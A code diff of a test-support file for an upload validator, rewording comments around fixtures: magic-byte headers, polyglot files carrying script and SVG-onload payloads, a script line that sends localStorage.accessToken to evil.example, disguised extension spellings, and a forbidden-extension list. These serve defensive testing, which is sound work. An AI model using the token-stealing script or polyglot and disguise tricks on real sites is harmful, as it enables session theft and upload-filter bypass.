@@ -4,7 +4,7 @@ import { pdf } from '#support/given.ts'
 const script = '<script>fetch("//evil.example/"+localStorage.accessToken)</script>'
 const head = (hex: string, text = '') => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.from(text)])
 
-/** The shortest beginnings by which each kind is known. */
+/** The shortest magic bytes of each type. */
 const heads: Record<Extension, Buffer<ArrayBuffer>> = {
   pdf,
   zip: head('504b0304140000000800', 'file'),
@@ -19,7 +19,7 @@ const heads: Record<Extension, Buffer<ArrayBuffer>> = {
   xlsx: office('xl/workbook.xml', 'spreadsheetml.sheet'),
 }
 
-/** An archive of one stored file, as Office writes it: the list of its parts. */
+/** A ZIP archive with one stored file, the content-types list of an Office file. */
 function office(part: string, kind: string): Buffer<ArrayBuffer> {
   const name = Buffer.from('[Content_Types].xml')
   const type = `application/vnd.openxmlformats-officedocument.${kind}.main+xml`
@@ -35,13 +35,13 @@ function office(part: string, kind: string): Buffer<ArrayBuffer> {
 export interface Content {
   name: string
   bytes: Buffer<ArrayBuffer>
-  /** What it may rightly be taken for, by its first bytes. */
+  /** The types that its magic bytes allow. */
   is: readonly Extension[]
 }
 
 const family = (kind: Extension): readonly Extension[] => {
   if (kind === 'jpg' || kind === 'jpeg') return ['jpg', 'jpeg']
-  // An Office file is an archive too, and may be handed out as one.
+  // An Office file is also a ZIP and may be served as one.
   return ['docx', 'pptx', 'xlsx'].includes(kind) ? [kind, 'zip'] : [kind]
 }
 
@@ -51,7 +51,7 @@ const never = (name: string, bytes: Buffer<ArrayBuffer> | string): Content => ({
   is: [],
 })
 
-/** True beginnings with something active behind them: they may be kept, and must never act. */
+/** Valid magic bytes followed by active content: may be stored, must never run. */
 const polyglots: Content[] = extensions.flatMap((kind) =>
   [script, `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, '/*`*/=1;alert(1)//'].map((tail, index) => ({
     name: `${kind} and active content ${index}`,
@@ -100,7 +100,7 @@ tiff ico cur heic avif jxl raw mp3 mp4 avi mov mkv webm ogg wav flac rar 7z tar 
 eml msg ics vcf torrent swift go rs java class kt c h cpp o so a lib obj stl step dwg dxf ttf otf woff woff2 eot map
 webmanifest appcache wml xul plist desktop service crx xpi vsix nupkg gem whl egg`.split(/\s+/)
 
-/** Ways to write a kind that is allowed so that something else hears another one. */
+/** Spellings of an allowed extension that a parser may read as another one. */
 const disguises: ((kind: string) => unknown)[] = [
   (kind) => kind.toUpperCase(),
   (kind) => `.${kind}`,
@@ -121,7 +121,7 @@ const disguises: ((kind: string) => unknown)[] = [
   (kind) => ({ toString: kind }),
 ]
 
-/** Three hundred endings that nobody may upload. */
+/** Three hundred forbidden extensions. */
 export const badExtensions: readonly unknown[] = [
   ...disguises.flatMap((disguise) => extensions.map(disguise)),
   ...[
